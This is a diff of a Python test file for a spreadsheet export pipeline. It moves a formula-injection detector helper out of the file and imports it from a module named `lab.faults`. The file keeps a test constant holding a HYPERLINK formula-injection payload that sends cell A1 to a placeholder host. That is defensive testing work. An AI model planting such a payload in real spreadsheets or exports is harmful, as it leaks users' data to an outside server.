@@ -4,7 +4,6 @@ workbook, and characters a workbook cannot hold are removed rather than crashing
 
 from __future__ import annotations
 
-import csv
 import shutil
 from pathlib import Path
 
@@ -18,6 +17,7 @@ from openpyxl import Workbook, load_workbook
 
 from pipeline import batch, cells, compare, compare_charts, export
 from pipeline.cli import main
+from lab.faults import unescaped_cells
 from pipeline.discover import discover
 from pipeline.load import load
 
@@ -47,24 +47,6 @@ def test_arrow_escapes_a_table_as_the_rule_escapes_each_cell(values):
 
 
 # --- every file any command writes --------------------------------------------------------------
-
-
-def unescaped_cells(folder: Path) -> list[str]:
-    """Every cell under `folder` a spreadsheet could run: a CSV cell that starts like a formula, a
-    workbook cell that is a formula or is text starting like one without Excel's quote prefix."""
-    found = []
-    for path in sorted(folder.rglob("*.csv")):
-        with open(path, encoding="utf-8", newline="") as handle:
-            found += [f"{path.name}: {cell!r}" for row in csv.reader(handle) for cell in row if cells.is_formula_like(cell)]
-    for path in sorted(folder.rglob("*.xlsx")):
-        for sheet in load_workbook(path).worksheets:
-            for row in sheet.iter_rows():
-                for cell in row:
-                    if cell.data_type == "f" or (
-                        isinstance(cell.value, str) and cells.is_formula_like(cell.value) and not cell.quotePrefix
-                    ):
-                        found.append(f"{path.name}/{sheet.title}!{cell.coordinate}: {cell.value!r}")
-    return found
 
 
 INJECTED = '=HYPERLINK("http://example.invalid/?"&A1)'
